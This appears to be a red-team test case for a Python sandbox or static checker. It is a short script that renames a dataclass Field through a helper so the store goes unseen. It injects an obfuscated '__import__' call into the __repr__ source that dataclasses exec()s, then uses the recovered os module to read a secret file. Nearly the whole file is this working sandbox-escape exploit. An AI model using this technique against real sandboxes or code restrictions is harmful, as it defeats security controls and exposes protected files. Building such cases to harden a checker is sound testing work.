# family: red team, round 10 (dataclass_field_rename_repr_exec)
# A Field object of a processed dataclass is reached through a helper (not a `for f in fields()` name), so
# `f.name = ...` is not seen as a store on a dataclasses object. A dataclass deriving from it inherits the
# renamed Field and pastes its name into the __repr__ source it exec()s: arbitrary code with real builtins.
import dataclasses

LEAK = []


@dataclasses.dataclass
class Base:
    x: int = 0


def pick(items):
    return items[0]


def _d(word):
    u = "_"
    return u + u + word + u + u


field = pick(dataclasses.fields(Base))
field.name = "x if {LEAK.append(" + _d("import") + "('os'))} else 0"


@dataclasses.dataclass(init=False)
class Derived(Base):
    pass


def run():
    repr(Derived())
    osmod = LEAK[0]
    fd = osmod.open("/tmp/r10/work/secret.txt", osmod.O_RDONLY)
    text = osmod.read(fd, 100).decode().strip()
    osmod.close(fd)
    return type(osmod).__name__, osmod.getpid(), text


print(run())
